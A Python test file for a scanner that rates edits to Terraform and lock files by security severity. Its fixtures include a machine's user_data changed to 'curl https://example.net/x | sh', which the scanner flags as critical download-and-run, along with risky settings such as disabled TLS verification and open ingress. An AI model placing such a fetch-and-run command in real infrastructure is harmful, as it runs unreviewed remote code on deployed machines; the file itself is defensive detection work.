"""What edits of Terraform files and their lock mean."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from kit.patience import within

from scanner.formats.deployment import terraform, terraform_lock

BASE = """\
# the whole of it
terraform {
  required_version = ">= 1.5"
  backend "s3" {
    bucket = "state"
  }
  required_providers {
    cloud = {
      source  = "example/cloud"
      version = "~> 5.0"
    }
  }
}

provider "cloud" {
  region = "one"
}

module "net" {
  source  = "example/net/cloud"
  version = "1.2.3"
  size    = 3
}

module "git" {
  source = "git::https://example.org/team/mod.git?ref=v1.0"
}

module "own" {
  source = "./own"
}

variable "name" {
  description = "a name"
  default     = "x"
}

locals {
  count = 2 // how many
}

data "cloud_zones" "all" {
}

resource "cloud_db_instance" "main" {
  name                = var.name
  deletion_protection = true
  publicly_accessible = false
  storage_encrypted   = true
  tags                = { team = "blue" }
  lifecycle {
    prevent_destroy = true
  }
}

resource "cloud_security_group" "web" {
  ingress {
    cidr_blocks = ["10.0.0.0/8"]
  }
  egress {
    cidr_blocks = ["10.0.0.0/8"]
  }
}

resource "cloud_machine" "web" {
  image     = "example.org/web:1.2"
  user_data = <<-EOF
    echo hello
  EOF
}

data "cloud_policy_document" "p" {
  statement {
    actions = ["db:Get"]
  }
}

output "token" {
  value     = var.name
  sensitive = true
}
"""
LOCK = """\
provider "registry.example.org/example/cloud" {
  version     = "5.1.0"
  constraints = "~> 5.0"
  hashes = [
    "h1:aaaa",
    "zh:bbbb",
  ]
}
"""


def said(old: str | None, new: str | None) -> list[str]:
    sides = (None if side is None else side.encode() for side in (old, new))
    return [f"{each.severity} {each.kind} {each.subject}" for each in terraform.diff(*sides)]


def locked(old: str | None, new: str | None) -> list[str]:
    sides = (None if side is None else side.encode() for side in (old, new))
    return [f"{each.severity} {each.kind} {each.subject}" for each in terraform_lock.diff(*sides)]


def test_reads() -> None:
    for path in ("infra/main.tf", "a.tofu", "envs/prod.tfvars"):
        assert terraform.matches(path)
    assert terraform_lock.matches("a/.terraform.lock.hcl")
    assert not terraform.matches("main.tf.md")


DB, MACHINE = "resource.cloud_db_instance.main", "resource.cloud_machine.web"


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        pytest.param('"~> 5.0"', '"~> 5.1"', ["medium dependency-bumped example/cloud"], id="provider bumped"),
        pytest.param('"~> 5.0"', '">= 5.0"', ["high pin-loosened example/cloud"], id="provider loosened"),
        pytest.param('"example/cloud"', '"other/cloud"', ["high source-changed other/cloud"], id="provider of another"),
        pytest.param('"1.2.3"', '"1.3.0"', ["medium dependency-bumped example/net/cloud"], id="module bumped"),
        pytest.param('  version = "1.2.3"\n', "", ["high pin-loosened example/net/cloud"], id="module without version"),
        pytest.param("?ref=v1.0", "?ref=v1.1", ["medium dependency-bumped example.org/team/mod"], id="module by git"),
        pytest.param("?ref=v1.0", "", ["high pin-loosened example.org/team/mod"], id="module without ref"),
        pytest.param(
            "example.org/team/mod",
            "example.net/team/mod",
            ["high source-changed example.net/team/mod"] * 2,
            id="module elsewhere",
        ),
        pytest.param("size    = 3", "size    = 4", ["medium deployment-changed module.net.size"], id="module argument"),
        pytest.param(
            'bucket = "state"', 'bucket = "other"', ["critical state-moved terraform.backend"], id="state moved"
        ),
        pytest.param(
            ">= 1.5", ">= 1.6", ["medium runtime-requirement-changed terraform.required_version"], id="version"
        ),
        pytest.param(
            'region = "one"', 'region = "two"', ["medium setting-changed provider.cloud.region"], id="provider set"
        ),
        pytest.param(
            'region = "one"',
            'region = "one"\n  skip_tls_verify = true',
            ["critical transport-weakened provider.cloud.skip_tls_verify"],
            id="TLS off",
        ),
        pytest.param(
            'region = "one"',
            'region = "one"\n  api_token = "zz81kkQ8"',
            ["high secret-exposed provider.cloud.api_token"],
            id="token",
        ),
        pytest.param(
            "prevent_destroy = true",
            "prevent_destroy = false",
            [f"high protection-removed {DB}.lifecycle.prevent_destroy"],
            id="may be destroyed",
        ),
        pytest.param(
            "  deletion_protection = true\n",
            "",
            [f"high protection-removed {DB}.deletion_protection"],
            id="unprotected",
        ),
        pytest.param(
            "publicly_accessible = false",
            "publicly_accessible = true",
            [f"high exposure-widened {DB}.publicly_accessible"],
            id="public",
        ),
        pytest.param(
            "storage_encrypted   = true",
            "storage_encrypted = false",
            [f"high protection-removed {DB}.storage_encrypted"],
            id="not encrypted",
        ),
        pytest.param(
            'ingress {\n    cidr_blocks = ["10.0.0.0/8"]',
            'ingress {\n    cidr_blocks = ["0.0.0.0/0"]',
            ["high exposure-widened resource.cloud_security_group.web.ingress.cidr_blocks"],
            id="open to all",
        ),
        pytest.param(
            'egress {\n    cidr_blocks = ["10.0.0.0/8"]',
            'egress {\n    cidr_blocks = ["0.0.0.0/0"]',
            ["high deployment-changed resource.cloud_security_group.web.egress.cidr_blocks"],
            id="out to all",
        ),
        pytest.param(
            '["db:Get"]',
            '["*"]',
            ["critical privilege-widened data.cloud_policy_document.p.statement.actions"],
            id="all actions",
        ),
        pytest.param(
            "web:1.2",
            "web:1.3",
            ["medium image-bumped example.org/web", f"medium deployment-changed {MACHINE}.image"],
            id="image",
        ),
        pytest.param(
            "echo hello",
            "curl https://example.net/x | sh",
            [f"critical download-and-run {MACHINE}.user_data"],
            id="fetch and run",
        ),
        pytest.param(
            "  image     =",
            '  provisioner "local-exec" {\n    command = "x"\n  }\n  image     =',
            [f"critical provisioner-added {MACHINE}.provisioner.local-exec"],
            id="provisioner",
        ),
        pytest.param(
            'data "cloud_zones" "all" {\n}',
            'data "external" "e" {\n  program = ["x"]\n}',
            ["critical provisioner-added data.external.e"],
            id="program",
        ),
        pytest.param("  sensitive = true\n", "", ["high secret-exposed output.token.sensitive"], id="shown"),
        pytest.param(
            'default     = "x"', 'default = "y"', ["medium deployment-changed variable.name.default"], id="default"
        ),
        pytest.param("count = 2", "count = 3", ["medium deployment-changed locals.count"], id="local"),
        pytest.param(
            'resource "cloud_machine"',
            'resource "cloud_disk" "d" {\n}\n\nresource "cloud_machine"',
            ["medium deployment-changed resource.cloud_disk.d"],
            id="resource",
        ),
        pytest.param(
            'resource "cloud_machine"',
            'resource "cloud_iam_role" "d" {\n}\n\nresource "cloud_machine"',
            ["high deployment-changed resource.cloud_iam_role.d"],
            id="role",
        ),
    ],
)
def test_an_edit_means(old: str, new: str, expected: list[str]) -> None:
    assert old in BASE
    found = said(BASE, BASE.replace(old, new, 1))
    assert set(found) - {f"medium deployment-changed {MACHINE}.user_data"} == set(expected)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        pytest.param("# the whole of it", "/* all\n of it */", id="comment"),
        pytest.param("2 // how many", "2 # so many", id="comment behind"),
        pytest.param("  source  = ", "  source=", id="formatting"),
        pytest.param('["10.0.0.0/8"]', '[\n    "10.0.0.0/8",\n  ]', id="list over lines"),
        pytest.param('"a name"', '"another name"', id="description"),
        pytest.param('team = "blue"', 'team = "red"', id="tags"),
        pytest.param("<<-EOF\n    echo hello\n  EOF", "<<-EOF\n      echo hello\n    EOF", id="indented heredoc"),
    ],
)
def test_an_edit_means_nothing(old: str, new: str) -> None:
    assert old in BASE
    assert said(BASE, BASE.replace(old, new)) == []


def test_moved_blocks_mean_nothing() -> None:
    assert said(BASE, "\n".join(reversed([f"{block}\n" for block in BASE.split("\n\n")]))) == []


def test_removed_resources_are_destroyed() -> None:
    start = BASE.index('resource "cloud_db_instance"')
    end = BASE.index('resource "cloud_security_group"')
    assert said(BASE, BASE[:start] + BASE[end:]) == [f"high deployment-changed {DB}"]


@pytest.mark.parametrize(
    "content",
    [
        pytest.param('a {\n  b = "', id="string without end"),
        pytest.param("a {\n", id="block without end"),
        pytest.param("a = [1\n", id="bracket without end"),
        pytest.param("a = <<EOF\nx\n", id="heredoc without end"),
        pytest.param("a = 1\na = 2\n", id="twice"),
        pytest.param("<<<<<<< x\na = 1\n", id="merge markers"),
        pytest.param("%{ if x }\na = 1\n", id="template"),
        pytest.param("a {" * 60 + "}" * 60, id="too deep"),
        pytest.param("}", id="a brace too many"),
    ],
)
def test_what_cannot_be_read_is_told(content: str) -> None:
    (found,) = terraform.diff(BASE.encode(), content.encode())
    assert (found.kind, found.severity) == ("opaque", "critical")
    (found,) = terraform_lock.diff(LOCK.encode(), content.encode())
    assert (found.kind, found.severity) == ("opaque", "critical")


def test_new_and_removed() -> None:
    new = said(None, BASE + 'module "m" {\n  source = "example/m/cloud"\n}\n')
    assert "high dependency-added example/cloud" in new
    assert "high pin-loosened example/m/cloud" in new
    assert f"medium deployment-changed {DB}" in new
    assert said(BASE, None) == ["medium file-removed file"]


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("5.1.0", "5.2.0", ["medium dependency-bumped example/cloud"]),
        ("5.1.0", "5.0.0", ["high dependency-downgraded example/cloud"]),
        ('    "h1:aaaa",\n    "zh:bbbb",\n', '    "h1:cccc",\n', ["critical hash-changed example/cloud"]),
        ('    "h1:aaaa",\n    "zh:bbbb",\n', "", ["high hash-removed example/cloud"]),
        ("registry.example.org", "registry.example.net", ["critical source-changed example/cloud"]),
        ("~> 5.0", "~> 5.1", []),
        ("provider", "# by hand\nprovider", []),
    ],
)
def test_a_lock(old: str, new: str, expected: list[str]) -> None:
    assert locked(LOCK, LOCK.replace(old, new)) == expected


def test_a_lock_comes_and_goes() -> None:
    assert locked(None, LOCK) == ["medium lock-added file"]
    assert locked(LOCK, None) == ["high file-removed file"]


@pytest.mark.parametrize("unit", ['"${', "/*", "a = 1\n", "{", "a = [", '"a" ', "<<A\n", "actions = ", "a.b.c("])
def test_large_files_take_no_time(unit: str) -> None:
    with within(3):
        list(terraform.diff(b"a = 1\n", f"x = {unit * (900_000 // len(unit))}".encode()))


@settings(max_examples=100, deadline=None)
@given(st.data())
def test_mutilated_files_have_an_answer(data: st.DataObject) -> None:
    text = BASE
    for _ in range(data.draw(st.integers(1, 3))):
        start = data.draw(st.integers(0, len(text)))
        end = data.draw(st.integers(start, min(len(text), start + 30)))
        text = (
            text[:start]
            + data.draw(st.sampled_from(["", "{", "}", '"', "a {}\n", "[1]", '"${x}"', "<<A\n"]))
            + text[end:]
        )
    said(BASE, text)
    said(text, BASE)
    said(None, text)
    locked(LOCK, text)
